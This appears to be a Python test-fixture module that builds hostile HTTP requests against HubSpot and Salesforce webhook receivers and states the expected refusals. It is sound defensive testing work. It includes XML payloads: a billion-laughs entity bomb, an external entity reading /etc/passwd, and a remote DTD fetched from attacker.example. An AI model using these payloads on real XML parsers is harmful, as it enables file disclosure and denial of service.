"""The hostile-input corpus of the two HTTP entry points, as data: each case builds one request from the
world's real keys (signatures computed with the real app secret and then broken) and says what the
receiver must answer and whether anything may be enqueued.

``refused`` cases must change nothing: no message, no DynamoDB item, nothing in a DLQ, no crash, no PII
in the logs. ``accepted`` cases are hostile but legitimate (records that do not exist, replays): they are
acknowledged, the worker runs, nothing crashes or lands in a DLQ, and only the receiver's de-duplication
keys may be written.
"""

from __future__ import annotations

import itertools
import json
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Literal
from xml.sax.saxutils import escape

from dealsync.models.events import salesforce_id_18
from dealsync.webhooks.hubspot_signature import sign_v1 as product_sign_v1
from dealsync.webhooks.hubspot_signature import sign_v2 as product_sign_v2
from dealsync.webhooks.hubspot_signature import sign_v3 as product_sign_v3
from dealsync_local.hubspot.webhooks import sign_v1, sign_v2, sign_v3

PII_EMAIL = "jane.roe.hostile@example.com"
PII_NAME = "Jane Roe Hostile"
PII_DESCRIPTION = "Confidential hostile description"
FOREIGN_ORG_ID = "00D000000000001"
FOREIGN_PORTAL_ID = 99999991
MISSING_OPPORTUNITY_ID = "006000000000999"  # a well-formed id no record has
MISSING_DEAL_ID = 987654321012
FIVE_MINUTES_MS = 5 * 60 * 1000
SIX_MB = 6 * 1024 * 1024
ELEVEN_MB = 11 * 1024 * 1024

Outcome = Literal["refused", "accepted"]
DROP = object()  # as an override: leave the key out
_serial = itertools.count(1)


@dataclass(frozen=True)
class Keys:
    """What a sender knows (the real app secret, org and portal) and the records of the world."""

    client_secret: str
    app_id: int
    portal_id: int
    org_id: str
    hubspot_url: str
    outbound_url: str
    opportunity_id: str
    deal_id: str


@dataclass(frozen=True)
class Request:
    body: bytes
    headers: dict[str, str]
    method: str = "POST"
    url_suffix: str = ""  # appended to the route's URL (a query string, a trailing slash)


@dataclass(frozen=True)
class HttpCase:
    id: str
    route: Literal["hubspot", "outbound"]
    build: Callable[[Keys], Request]
    status: int
    outcome: Outcome = "refused"
    # What the answer must mention (the cause, named), case-insensitive; empty for gateway answers.
    says: str = ""
    extra_headers: dict[str, str] = field(default_factory=dict)


def _now_ms() -> int:
    return int(time.time() * 1000)


# --- HubSpot webhooks ----------------------------------------------------------------------------


def deal_event(keys: Keys, **overrides: Any) -> dict[str, Any]:
    """A deal.propertyChange event as HubSpot sends it, carrying PII in its value."""
    event: dict[str, Any] = {
        "eventId": 5_000_000 + next(_serial), "subscriptionId": 2741002, "portalId": keys.portal_id,
        "appId": keys.app_id, "occurredAt": _now_ms(), "subscriptionType": "deal.propertyChange",
        "attemptNumber": 0, "objectId": int(keys.deal_id), "propertyName": "description",
        "propertyValue": f"{PII_DESCRIPTION} for {PII_NAME} <{PII_EMAIL}>", "changeSource": "CRM_UI",
        "sourceId": "userId:81234567",
    }
    for key, value in overrides.items():
        if value is DROP:
            event.pop(key, None)
        else:
            event[key] = value
    return event



def signed(keys: Keys, body: bytes | str, *, version: int = 3, secret: str | None = None, method: str = "POST",
           url: str | None = None, timestamp: int | str | None = None, content_type: str = "application/json",
           ) -> dict[str, str]:
    """The headers HubSpot would send for ``body``, signed with ``secret`` (the real one by default)."""
    secret = keys.client_secret if secret is None else secret
    url = keys.hubspot_url if url is None else url
    headers = {"Content-Type": content_type} if content_type else {}
    stamp = _now_ms() if timestamp is None else timestamp
    try:
        text = body.decode() if isinstance(body, bytes) else body
    except UnicodeDecodeError:  # the emulator signs text; bytes that are not UTF-8 are signed as bytes
        raw = body if isinstance(body, bytes) else body.encode()
        v1, v2 = product_sign_v1(secret, raw), product_sign_v2(secret, method, url, raw)
        v3 = product_sign_v3(secret, method, url, raw, str(stamp))
    else:
        v1, v2 = sign_v1(secret, text), sign_v2(secret, method, url, text)
        v3 = sign_v3(secret, method, url, text, stamp)
    if version == 1:
        return {**headers, "X-HubSpot-Signature": v1, "X-HubSpot-Signature-Version": "v1"}
    if version == 2:
        return {**headers, "X-HubSpot-Signature": v2, "X-HubSpot-Signature-Version": "v2"}
    return {**headers, "X-HubSpot-Signature-v3": v3, "X-HubSpot-Request-Timestamp": str(stamp)}


def _batch(*events: dict[str, Any]) -> bytes:
    return json.dumps(list(events)).encode()


def _hs_signed_body(body: Callable[[Keys], bytes | str], *, version: int = 3,
                    content_type: str = "application/json") -> Callable[[Keys], Request]:
    """A correctly signed request carrying a hostile body."""
    def build(keys: Keys) -> Request:
        data = body(keys)
        raw = data.encode() if isinstance(data, str) else data
        return Request(raw, signed(keys, raw, version=version, content_type=content_type))
    return build


def _hs_events(*events: Callable[[Keys], dict[str, Any]], version: int = 3) -> Callable[[Keys], Request]:
    return _hs_signed_body(lambda keys: _batch(*(event(keys) for event in events)), version=version)


def _hs_broken(mutate: Callable[[Keys, bytes, dict[str, str]], Request]) -> Callable[[Keys], Request]:
    """A valid batch, signed v3, then broken by ``mutate(keys, body, headers)``."""
    def build(keys: Keys) -> Request:
        body = _batch(deal_event(keys))
        return mutate(keys, body, signed(keys, body))
    return build


def _with(headers: dict[str, str], **changes: str | None) -> dict[str, str]:
    names = {key.replace("_", "-").lower(): value for key, value in changes.items()}
    kept = {name: value for name, value in headers.items() if name.lower() not in names}
    return {**kept, **{name: value for name, value in names.items() if value is not None}}


def _event(**overrides: Any) -> Callable[[Keys], dict[str, Any]]:
    return lambda keys: deal_event(keys, **overrides)


def _billion_laughs() -> str:
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]><lolz>&lol9;</lolz>'


def _huge_event_batch(keys: Keys) -> bytes:
    """100 events, each with a 64 KiB value (HubSpot's longest) about a deal that does not exist: 6.5 MB,
    signed and well-formed, more than one queue message can carry."""
    value = "x" * 65_536
    return _batch(*(deal_event(keys, objectId=MISSING_DEAL_ID, propertyValue=value) for _ in range(100)))


_SIGNATURE_CASES: list[HttpCase] = [
    HttpCase("no-signature-headers", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, {"Content-Type": "application/json"})), 401, says="no HubSpot signature"),
    HttpCase("v3-garbage", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(h, x_hubspot_signature_v3="bm90IGEgc2lnbmF0dXJl"))), 401),
    HttpCase("v3-empty-signature", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(h, x_hubspot_signature_v3=""))), 401),
    HttpCase("v3-wrong-secret", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, secret=k.client_secret + "x"))), 401,
        says="does not match"),
    HttpCase("v3-body-altered-after-signing", "hubspot", _hs_broken(
        lambda k, body, h: Request(body.replace(b"description", b"amount"), h)), 401, says="does not match"),
    HttpCase("v3-body-truncated-after-signing", "hubspot", _hs_broken(
        lambda k, body, h: Request(body[: len(body) // 2], h)), 401),
    HttpCase("v3-body-extended-after-signing", "hubspot", _hs_broken(
        lambda k, body, h: Request(body + b" ", h)), 401),
    HttpCase("v3-stale-timestamp", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp=_now_ms() - FIVE_MINUTES_MS - 60_000))), 401,
        says="older than 5 minutes"),
    HttpCase("v3-day-old-replay", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp=_now_ms() - 86_400_000))), 401),
    HttpCase("v3-future-timestamp", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp=_now_ms() + FIVE_MINUTES_MS + 60_000))), 401,
        says="in the future"),
    HttpCase("v3-timestamp-in-seconds", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp=_now_ms() // 1000))), 401),
    HttpCase("v3-timestamp-missing", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(h, x_hubspot_request_timestamp=None))), 401),
    HttpCase("v3-timestamp-not-a-number", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp="yesterday"))), 401),
    HttpCase("v3-timestamp-negative", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp="-1"))), 401),
    HttpCase("v3-timestamp-enormous", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, timestamp="9" * 40))), 401),
    HttpCase("v3-timestamp-swapped-after-signing", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(h, x_hubspot_request_timestamp=str(_now_ms() - 1000)))), 401),
    HttpCase("v3-signed-for-another-path", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, url=k.hubspot_url + "-other"))), 401),
    HttpCase("v3-signed-for-another-host", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, url="https://attacker.example/webhooks/hubspot"))), 401),
    HttpCase("v3-signed-for-GET", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, method="GET"))), 401),
    HttpCase("v3-unsigned-query-string", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, h, url_suffix="?replay=1")), 401),
    HttpCase("v3-signature-lowercased", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(h, x_hubspot_signature_v3=h["X-HubSpot-Signature-v3"].lower()))),
        401),
    HttpCase("v3-duplicated-signature-header", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(h, x_hubspot_signature_v3=h["X-HubSpot-Signature-v3"] + ","
                                               + h["X-HubSpot-Signature-v3"]))), 401),
    HttpCase("v3-wrong-but-valid-v1-downgrade", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, {**signed(k, body, version=1),
                                          "X-HubSpot-Signature-v3": "bm90IGEgc2lnbmF0dXJl",
                                          "X-HubSpot-Request-Timestamp": str(_now_ms())})), 401),
    HttpCase("v1-garbage", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(signed(k, body, version=1), x_hubspot_signature="0" * 64))), 401),
    HttpCase("v1-wrong-secret", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, version=1, secret="not-the-secret"))), 401),
    HttpCase("v1-body-altered-after-signing", "hubspot", _hs_broken(
        lambda k, body, h: Request(body.replace(b"CRM_UI", b"IMPORT"), signed(k, body, version=1))), 401),
    HttpCase("v1-signature-labelled-v2", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(signed(k, body, version=1), x_hubspot_signature_version="v2"))),
        401),
    HttpCase("v2-signed-for-another-url", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, version=2, url="https://attacker.example/hook"))), 401),
    HttpCase("v2-wrong-secret", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, signed(k, body, version=2, secret="not-the-secret"))), 401),
    HttpCase("unknown-signature-version", "hubspot", _hs_broken(
        lambda k, body, h: Request(body, _with(signed(k, body, version=1), x_hubspot_signature_version="v9"))),
        401, says="unknown signature version"),
    HttpCase("unsigned-xml-bomb", "hubspot", lambda k: Request(
        _billion_laughs().encode(), {"Content-Type": "application/xml"}), 401),
    HttpCase("unsigned-huge-body", "hubspot", lambda k: Request(
        b"[" + b"1," * (SIX_MB // 2) + b"1]", {"Content-Type": "application/json"}), 401),
]

_CONTENT_TYPE_CASES: list[HttpCase] = [
    HttpCase("content-type-text-plain", "hubspot", _hs_signed_body(
        lambda k: _batch(deal_event(k)), content_type="text/plain"), 415, says="expected application/json"),
    HttpCase("content-type-form", "hubspot", _hs_signed_body(
        lambda k: "events=" + json.dumps([deal_event(k)]), content_type="application/x-www-form-urlencoded"), 415),
    HttpCase("content-type-xml-entity-expansion", "hubspot", _hs_signed_body(
        lambda k: _billion_laughs(), content_type="application/xml"), 415),
    HttpCase("content-type-octet-stream", "hubspot", _hs_signed_body(
        lambda k: _batch(deal_event(k)), content_type="application/octet-stream"), 415),
    HttpCase("content-type-multipart", "hubspot", _hs_signed_body(
        lambda k: _batch(deal_event(k)), content_type="multipart/form-data; boundary=x"), 415),
]

_BODY_CASES: list[HttpCase] = [
    HttpCase("body-empty", "hubspot", _hs_signed_body(lambda k: b""), 400, says="malformed webhook batch"),
    HttpCase("body-null", "hubspot", _hs_signed_body(lambda k: "null"), 400),
    HttpCase("body-object-not-array", "hubspot", _hs_signed_body(lambda k: json.dumps(deal_event(k))), 400),
    HttpCase("body-empty-array", "hubspot", _hs_signed_body(lambda k: "[]"), 400),
    HttpCase("body-array-of-numbers", "hubspot", _hs_signed_body(lambda k: "[1, 2, 3]"), 400),
    HttpCase("body-truncated-json", "hubspot", _hs_signed_body(
        lambda k: _batch(deal_event(k), deal_event(k))[:-40]), 400),
    HttpCase("body-not-utf8", "hubspot", _hs_signed_body(
        lambda k: _batch(deal_event(k)).replace(b"Confidential", b"Confidenti\xe9l")), 400),
    HttpCase("body-utf8-bom", "hubspot", _hs_signed_body(lambda k: b"\xef\xbb\xbf" + _batch(deal_event(k))), 400),
    HttpCase("body-nan-timestamp", "hubspot", _hs_signed_body(
        lambda k: _batch(deal_event(k)).replace(b'"occurredAt": ', b'"occurredAt": NaN, "x": ')), 400),
    HttpCase("body-deeply-nested", "hubspot", _hs_signed_body(lambda k: "[" * 100_000 + "]" * 100_000), 400),
    HttpCase("body-101-events", "hubspot", _hs_signed_body(
        lambda k: _batch(*(deal_event(k) for _ in range(101)))), 400),
    HttpCase("body-xml-with-json-content-type", "hubspot", _hs_signed_body(lambda k: _billion_laughs()), 400),
    HttpCase("body-huge-but-signed", "hubspot", _hs_signed_body(_huge_event_batch), 200, outcome="accepted"),
    HttpCase("body-over-gateway-limit", "hubspot", lambda k: Request(
        b"[" + b" " * ELEVEN_MB + b"]", {"Content-Type": "application/json"}), 413),
    HttpCase("event-unknown-type", "hubspot", _hs_events(_event(subscriptionType="deal.teleport")), 400),
    HttpCase("event-ticket-type", "hubspot", _hs_events(_event(subscriptionType="ticket.creation")), 400),
    HttpCase("event-type-missing", "hubspot", _hs_events(_event(subscriptionType=DROP)), 400),
    HttpCase("event-object-id-text", "hubspot", _hs_events(_event(objectId="deal-one")), 400),
    HttpCase("event-object-id-missing", "hubspot", _hs_events(_event(objectId=DROP)), 400),
    HttpCase("event-object-id-zero", "hubspot", _hs_events(_event(objectId=0)), 400),
    HttpCase("event-object-id-negative", "hubspot", _hs_events(_event(objectId=-5)), 400),
    HttpCase("event-object-id-beyond-int64", "hubspot", _hs_events(_event(objectId=2**70)), 400),
    HttpCase("event-object-id-float", "hubspot", _hs_events(_event(objectId=12.5)), 400),
    HttpCase("event-object-id-list", "hubspot", _hs_events(_event(objectId=[1, 2])), 400),
    HttpCase("event-id-missing", "hubspot", _hs_events(_event(eventId=DROP)), 400),
    HttpCase("event-occurred-at-negative", "hubspot", _hs_events(_event(occurredAt=-1)), 400),
    HttpCase("event-occurred-at-text", "hubspot", _hs_events(_event(occurredAt="today")), 400),
    HttpCase("event-property-change-without-name", "hubspot", _hs_events(_event(propertyName=DROP)), 400),
    HttpCase("event-merge-without-merged-ids", "hubspot", _hs_events(_event(
        subscriptionType="deal.merge", primaryObjectId=1, propertyName=DROP)), 400),
    HttpCase("event-association-without-target", "hubspot", _hs_events(_event(
        subscriptionType="deal.associationChange", associationType="DEAL_TO_CONTACT", fromObjectId=1,
        objectId=DROP, propertyName=DROP)), 400),
    HttpCase("event-association-removed-not-bool", "hubspot", _hs_events(_event(
        subscriptionType="deal.associationChange", associationType="DEAL_TO_CONTACT", fromObjectId=1,
        toObjectId=2, associationRemoved="perhaps")), 400),
    HttpCase("event-one-bad-among-good", "hubspot", _hs_events(_event(), _event(objectId="x"), _event()), 400),
    HttpCase("event-not-an-object", "hubspot", _hs_signed_body(lambda k: json.dumps([deal_event(k), "deal"])), 400),
    HttpCase("foreign-portal", "hubspot", _hs_events(_event(portalId=FOREIGN_PORTAL_ID)), 403,
             says="portal"),
    HttpCase("foreign-portal-among-ours", "hubspot", _hs_events(_event(), _event(portalId=FOREIGN_PORTAL_ID)), 403),
    HttpCase("foreign-app", "hubspot", _hs_events(_event(appId=424242)), 403, says="app"),
    HttpCase("foreign-portal-v1", "hubspot", _hs_events(_event(portalId=FOREIGN_PORTAL_ID), version=1), 403),
    HttpCase("bad-body-v1", "hubspot", _hs_signed_body(lambda k: "{", version=1), 400),
    HttpCase("bad-body-v2", "hubspot", _hs_signed_body(lambda k: "{", version=2), 400),
    HttpCase("method-get", "hubspot", lambda k: Request(b"", {}, method="GET"), 404),
    HttpCase("method-put", "hubspot", _hs_broken(lambda k, body, h: Request(body, h, method="PUT")), 404),
]

_HUBSPOT_ACCEPTED: list[HttpCase] = [
    HttpCase("deal-that-does-not-exist", "hubspot", _hs_events(_event(objectId=MISSING_DEAL_ID)), 200,
             outcome="accepted"),
    HttpCase("deletion-of-a-deal-that-does-not-exist", "hubspot", _hs_events(_event(
        objectId=MISSING_DEAL_ID + 1, subscriptionType="deal.deletion", propertyName=DROP)), 200,
        outcome="accepted"),
    HttpCase("contact-events-only", "hubspot", _hs_events(_event(
        subscriptionType="contact.propertyChange", propertyName="email")), 200, outcome="accepted"),
    HttpCase("own-echo", "hubspot", lambda k: _hs_events(_event(
        changeSource="INTEGRATION", sourceId=str(k.app_id)))(k), 200, outcome="accepted"),
]

HUBSPOT_CASES: list[HttpCase] = [*_SIGNATURE_CASES, *_CONTENT_TYPE_CASES, *_BODY_CASES, *_HUBSPOT_ACCEPTED]


# --- Salesforce Outbound Messages ----------------------------------------------------------------


@dataclass(frozen=True)
class Notification:
    record_id: str
    sobject_type: str = "Opportunity"
    notification_id: str = ""


def notification_id() -> str:
    return salesforce_id_18(f"04l5f{next(_serial):010d}")


def soap(keys: Keys, notifications: list[Notification] | None = None, *, org_id: str | None = None,
         action_id: str = "04k5f000000CabWAAS", session_id: str | None = None) -> str:
    """An Outbound Message as Salesforce sends it (salesforce.md §4a), with PII in its field values."""
    org = keys.org_id if org_id is None else org_id
    items = notifications if notifications is not None else [Notification(keys.opportunity_id)]
    session = f"<SessionId>{escape(session_id)}</SessionId>" if session_id else '<SessionId xsi:nil="true"/>'
    parts = [
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{escape(org)}</OrganizationId><ActionId>{escape(action_id)}</ActionId>{session}"
        "<EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/59.0/00D5f000005KcCn</EnterpriseUrl>"
        "<PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/59.0/00D5f000005KcCn</PartnerUrl>"
    ]
    for item in items:
        parts.append(
            f"<Notification><Id>{escape(item.notification_id or notification_id())}</Id>"
            f'<sObject xsi:type="sf:{escape(item.sobject_type)}" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
            f"<sf:Id>{escape(item.record_id)}</sf:Id><sf:Name>{escape(PII_NAME)}</sf:Name>"
            f"<sf:Description>{escape(PII_DESCRIPTION)} {escape(PII_EMAIL)}</sf:Description>"
            "</sObject></Notification>")
    parts.append("</notifications></soapenv:Body></soapenv:Envelope>")
    return "".join(parts)


SOAP_CONTENT_TYPE = "text/xml; charset=utf-8"


def _om(body: Callable[[Keys], str | bytes], content_type: str | None = SOAP_CONTENT_TYPE) -> Callable[[Keys], Request]:
    def build(keys: Keys) -> Request:
        data = body(keys)
        headers = {"Content-Type": content_type, "SOAPAction": '""'} if content_type else {"SOAPAction": '""'}
        return Request(data.encode() if isinstance(data, str) else data, headers)
    return build


def _om_edit(old: str, new: str | Callable[[Keys], str]) -> Callable[[Keys], Request]:
    """A valid message with one piece of its text replaced."""
    def body(keys: Keys) -> str:
        text = soap(keys)
        assert old in text, old
        return text.replace(old, new(keys) if callable(new) else new, 1)
    return _om(body)


def _om_records(*notifications: Callable[[Keys], Notification], **soap_options: Any) -> Callable[[Keys], Request]:
    return _om(lambda keys: soap(keys, [make(keys) for make in notifications], **soap_options))


def _opp(record_id: str | None = None, sobject_type: str = "Opportunity",
         notification: str = "") -> Callable[[Keys], Notification]:
    return lambda keys: Notification(keys.opportunity_id if record_id is None else record_id, sobject_type,
                                     notification)


_XXE = ('<?xml version="1.0"?><!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
_PARAMETER_ENTITY = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
                     "%remote;]>")

OUTBOUND_CASES: list[HttpCase] = [
    HttpCase("foreign-org", "outbound", _om(lambda k: soap(k, org_id=FOREIGN_ORG_ID)), 403, says="organization"),
    HttpCase("foreign-org-18", "outbound", _om(lambda k: soap(k, org_id=salesforce_id_18(FOREIGN_ORG_ID))), 403),
    HttpCase("foreign-org-with-session-secret", "outbound", _om(
        lambda k: soap(k, org_id=FOREIGN_ORG_ID, session_id="SESSION-SECRET-00D!AQ4AQHostileToken")), 403),
    HttpCase("org-differs-in-one-character", "outbound", _om(
        lambda k: soap(k, org_id=k.org_id[:14] + ("1" if k.org_id[14] != "1" else "2"))), 403),
    HttpCase("org-not-an-id", "outbound", _om(lambda k: soap(k, org_id="our-org")), 400),
    HttpCase("org-bad-checksum", "outbound", _om(lambda k: soap(k, org_id=k.org_id[:15] + "999")), 400),
    HttpCase("org-empty", "outbound", _om(lambda k: soap(k, org_id="")), 400),
    HttpCase("org-nil", "outbound", _om_edit("<OrganizationId>", '<OrganizationId xsi:nil="true">')
             , 400),
    HttpCase("org-missing", "outbound", _om(
        lambda k: soap(k).replace(f"<OrganizationId>{k.org_id}</OrganizationId>", "")), 400),
    HttpCase("action-id-missing", "outbound", _om_edit("<ActionId>04k5f000000CabWAAS</ActionId>", ""), 400),
    HttpCase("action-id-not-an-id", "outbound", _om_edit("04k5f000000CabWAAS", "action!"), 400),
    HttpCase("enterprise-url-missing", "outbound", _om(
        lambda k: soap(k).replace("<EnterpriseUrl>", "<Ignored>").replace("</EnterpriseUrl>", "</Ignored>")), 400),
    HttpCase("partner-url-missing", "outbound", _om(
        lambda k: soap(k).replace("<PartnerUrl>", "<Ignored>").replace("</PartnerUrl>", "</Ignored>")), 400),
    HttpCase("no-notifications", "outbound", _om(lambda k: soap(k, [])), 400),
    HttpCase("101-notifications", "outbound", _om(
        lambda k: soap(k, [Notification(k.opportunity_id) for _ in range(101)])), 400),
    HttpCase("notification-id-missing", "outbound", _om(
        lambda k: soap(k, [Notification(k.opportunity_id, notification_id="@@")]).replace("<Id>@@</Id>", "")), 400),
    HttpCase("notification-id-not-an-id", "outbound", _om_records(_opp(notification="not-an-id")), 400),
    HttpCase("sobject-missing", "outbound", _om(
        lambda k: soap(k).replace("<sObject ", "<Other ").replace("</sObject>", "</Other>")), 400),
    HttpCase("sobject-without-type", "outbound", _om_edit('xsi:type="sf:Opportunity" ', ""), 400),
    HttpCase("sobject-lead", "outbound", _om_records(_opp("00Q5f00000AbCdE", "Lead")), 400, says="Lead"),
    HttpCase("sobject-mixed-types", "outbound", _om_records(_opp(), _opp("00Q5f00000AbCdE", "Lead")), 400),
    HttpCase("record-id-missing", "outbound", _om(
        lambda k: soap(k).replace(f"<sf:Id>{k.opportunity_id}</sf:Id>", "")), 400),
    HttpCase("record-id-not-an-id", "outbound", _om_records(_opp("DROP TABLE")), 400),
    HttpCase("record-id-16-characters", "outbound", _om_records(_opp("0065f00000AbCdEA")), 400),
    HttpCase("record-id-bad-checksum", "outbound", _om_records(_opp("0065f00000AbCdE999")), 400),
    HttpCase("record-id-of-an-account", "outbound", _om_records(_opp("0015f00000LmNoP")), 400,
             says="start with"),
    HttpCase("record-id-of-an-account-among-good", "outbound", _om_records(_opp(), _opp("0015f00000LmNoP")), 400),
    HttpCase("record-id-with-markup", "outbound", _om(
        lambda k: soap(k).replace(f"<sf:Id>{k.opportunity_id}</sf:Id>",
                                  f"<sf:Id><b>{k.opportunity_id}</b></sf:Id>")), 400),
    HttpCase("body-empty", "outbound", _om(lambda k: ""), 400, says="not well-formed"),
    HttpCase("body-json", "outbound", _om(lambda k: json.dumps({"OrganizationId": k.org_id})), 400),
    HttpCase("body-truncated", "outbound", _om(lambda k: soap(k)[: len(soap(k)) // 2]), 400),
    HttpCase("body-not-utf8", "outbound", _om(lambda k: soap(k).encode().replace(b"Jane", b"J\xe9ne")), 400),
    HttpCase("body-billion-laughs", "outbound", _om(lambda k: _billion_laughs()), 400, says="DTD"),
    HttpCase("body-billion-laughs-in-envelope", "outbound", _om(
        lambda k: _billion_laughs().split("<lolz>")[0] + soap(k).split("?>", 1)[1].replace(
            PII_NAME, "&lol9;")), 400),
    HttpCase("body-external-entity", "outbound", _om(
        lambda k: _XXE + soap(k).split("?>", 1)[1].replace(PII_NAME, "&xxe;")), 400),
    HttpCase("body-parameter-entity", "outbound", _om(lambda k: _PARAMETER_ENTITY + soap(k).split("?>", 1)[1]), 400),
    HttpCase("body-doctype-only", "outbound", _om(
        lambda k: '<?xml version="1.0"?><!DOCTYPE soapenv:Envelope>' + soap(k).split("?>", 1)[1]), 400),
    HttpCase("body-deeply-nested", "outbound", _om(lambda k: "<a>" * 50_000 + "</a>" * 50_000), 400),
    HttpCase("root-not-envelope", "outbound", _om(
        lambda k: soap(k).replace("soapenv:Envelope", "soapenv:Letter")), 400, says="root element"),
    HttpCase("soap-12-envelope", "outbound", _om(
        lambda k: soap(k).replace("http://schemas.xmlsoap.org/soap/envelope/",
                                  "http://www.w3.org/2003/05/soap-envelope")), 400),
    HttpCase("envelope-without-body", "outbound", _om(
        lambda k: soap(k).replace("soapenv:Body", "soapenv:Header")), 400),
    HttpCase("notifications-wrong-namespace", "outbound", _om_edit(
        "http://soap.sforce.com/2005/09/outbound", "http://attacker.example/outbound"), 400),
    HttpCase("content-type-json", "outbound", _om(soap, content_type="application/json"), 415,
             says="text/xml"),
    HttpCase("content-type-text-plain", "outbound", _om(soap, content_type="text/plain"), 415),
    HttpCase("content-type-octet-stream", "outbound", _om(soap, content_type="application/octet-stream"), 415),
    HttpCase("content-type-form", "outbound", _om(soap, content_type="application/x-www-form-urlencoded"), 415),
    HttpCase("content-type-missing", "outbound", _om(soap, content_type=None), 415),
    HttpCase("body-over-gateway-limit", "outbound", _om(lambda k: soap(k) + " " * ELEVEN_MB), 413),
    HttpCase("body-huge-garbage", "outbound", _om(lambda k: "<x>" + "y" * SIX_MB + "</x>"), 400),
    HttpCase("method-get", "outbound", lambda k: Request(b"", {}, method="GET"), 404),
    HttpCase("method-delete", "outbound", lambda k: Request(soap(k).encode(), {"Content-Type": SOAP_CONTENT_TYPE},
                                                             method="DELETE"), 404),
    # Hostile but legitimate: acknowledged, and the worker finds nothing to do.
    HttpCase("opportunity-that-does-not-exist", "outbound", _om_records(_opp(MISSING_OPPORTUNITY_ID)), 200,
             outcome="accepted"),
    HttpCase("org-id-15-characters", "outbound", _om(
        lambda k: soap(k, [Notification(MISSING_OPPORTUNITY_ID)], org_id=k.org_id[:15])), 200, outcome="accepted"),
    HttpCase("contact-that-does-not-exist", "outbound", _om_records(_opp("003000000000999", "Contact")), 200,
             outcome="accepted"),
]
HTTP_CASES: list[HttpCase] = [*HUBSPOT_CASES, *OUTBOUND_CASES]
